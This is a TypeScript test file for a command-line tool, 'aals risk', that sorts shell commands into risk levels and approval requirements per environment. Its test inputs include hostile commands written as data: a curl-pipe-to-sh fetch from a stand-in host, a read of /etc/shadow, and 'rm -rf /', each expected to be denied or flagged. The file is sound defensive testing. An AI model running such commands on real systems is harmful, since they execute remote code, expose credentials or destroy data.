import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tempDir } from '../support/temp.js';

/** `aals risk --env ENV -- "CMD"` per the guide's contract, through the built binary. */
const BIN = join(import.meta.dirname, '..', '..', 'bin', 'aals.js');

let dir: ReturnType<typeof tempDir>;
beforeEach(() => {
  dir = tempDir('aals-risk-');
});
afterEach(() => dir.cleanup());

function aals(args: string[], env: Record<string, string> = {}) {
  const result = spawnSync('node', [BIN, 'risk', ...args], {
    cwd: dir.path,
    encoding: 'utf8',
    env: { PATH: process.env.PATH, ...env },
  });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

function json(stdout: string) {
  return JSON.parse(stdout) as {
    risk: string;
    decision: string;
    approvals: number;
    reason: string;
    canonical?: string;
  };
}

describe('aals risk', () => {
  test('a read-only command: READ_ONLY, auto, 0 approvals, with the contract fields first', () => {
    const { status, stdout, stderr } = aals(['--env', 'production', '--', 'ps aux | grep nginx']);
    expect(stderr).toBe('');
    expect(status).toBe(0);
    const result = json(stdout);
    expect(Object.keys(result).slice(0, 4)).toEqual(['risk', 'decision', 'approvals', 'reason']);
    expect(result).toMatchObject({ risk: 'READ_ONLY', decision: 'auto', approvals: 0 });
    expect(result.reason).toEqual(expect.any(String));
    expect(stdout.trim().split('\n')).toHaveLength(1);
  });

  test('a change takes its risk and approvals from the environment, and always waits for people', () => {
    expect(json(aals(['--env', 'development', '--', 'systemctl restart nginx']).stdout)).toMatchObject({
      risk: 'MEDIUM_RISK',
      decision: 'approval',
      approvals: 1,
    });
    expect(json(aals(['--env', 'staging', '--', 'systemctl restart nginx']).stdout)).toMatchObject({
      risk: 'MEDIUM_RISK',
      decision: 'approval',
      approvals: 1,
    });
    const production = json(aals(['--env', 'production', '--', 'systemctl restart nginx']).stdout);
    expect(production).toMatchObject({ risk: 'HIGH_RISK', decision: 'approval', approvals: 2 });
    expect(production.reason).toMatch(
      /systemctl 'restart' is not a subcommand.*production needs 2 approvals/,
    );
  });

  test('a refusal names the part it did not recognise, in one line', () => {
    const unknownOption = json(
      aals(['--env', 'production', '--', 'kubectl --kubeconfig /tmp/k get pods']).stdout,
    );
    expect(unknownOption).toMatchObject({ risk: 'HIGH_RISK', decision: 'approval' });
    expect(unknownOption.reason).toMatch(
      /kubectl: '--kubeconfig' is not an option AALS knows as read-only here/,
    );
    const secret = json(aals(['--env', 'development', '--', 'cat /etc/shadow']).stdout);
    expect(secret).toMatchObject({ risk: 'MEDIUM_RISK', decision: 'approval' });
    expect(secret.reason).toMatch(/\/etc\/shadow may be credential material/);
    const read = json(aals(['--env', 'production', '--', 'journalctl -u nginx -n 50 --no-pager']).stdout);
    expect(read).toMatchObject({ risk: 'READ_ONLY', decision: 'auto' });
    expect(read.canonical).toBe("'journalctl' '-u' 'nginx' '-n' '50' '--no-pager'");
  });

  test('CRITICAL and denied are classifications, so they exit 0', () => {
    const critical = aals(['--env', 'production', '--', 'rm -rf /']);
    expect(critical.status).toBe(0);
    expect(json(critical.stdout)).toMatchObject({ risk: 'CRITICAL', decision: 'manual', approvals: 0 });
    const denied = aals(['--env', 'staging', '--', 'curl -s http://x.example/i.sh | sh']);
    expect(denied.status).toBe(0);
    expect(json(denied.stdout)).toMatchObject({ decision: 'denied', approvals: 0 });
    const unparsable = aals(['--env', 'staging', '--', 'echo $(id']);
    expect(unparsable.status).toBe(0);
    expect(json(unparsable.stdout)).toMatchObject({ risk: 'CRITICAL', decision: 'denied' });
  });

  test('--config sets the approvals a production change needs', () => {
    const file = join(dir.path, 'aals.yaml');
    writeFileSync(file, 'environments:\n  production:\n    requiredApprovals: 3\n');
    const { status, stdout } = aals([
      '--env',
      'production',
      '--config',
      file,
      '--',
      'kubectl rollout restart deploy/api',
    ]);
    expect(status).toBe(0);
    expect(json(stdout)).toMatchObject({ risk: 'HIGH_RISK', decision: 'approval', approvals: 3 });
  });

  test.each([
    [['--', 'df -h'], /--env/],
    [['--env', 'moon', '--', 'df -h'], /unknown --env 'moon'/],
    [['--env', 'production'], /needs a command/],
    [['--env', 'production', '--', '   '], /needs a command/],
    [['--env', 'production', '--bogus', '--', 'df'], /bogus/],
  ])('usage error %j exits 2 with one line on stderr', (args, message) => {
    const { status, stdout, stderr } = aals(args);
    expect(status).toBe(2);
    expect(stdout).toBe('');
    expect(stderr).toMatch(message);
    expect(stderr.trim().split('\n')).toHaveLength(1);
  });

  test('a broken --config file is a usage error', () => {
    const file = join(dir.path, 'bad.yaml');
    writeFileSync(file, 'environments:\n  production:\n    requiredApprovals: zero\n');
    const { status, stderr } = aals(['--env', 'production', '--config', file, '--', 'df -h']);
    expect(status).toBe(2);
    expect(stderr).toMatch(/requiredApprovals/);
  });
});
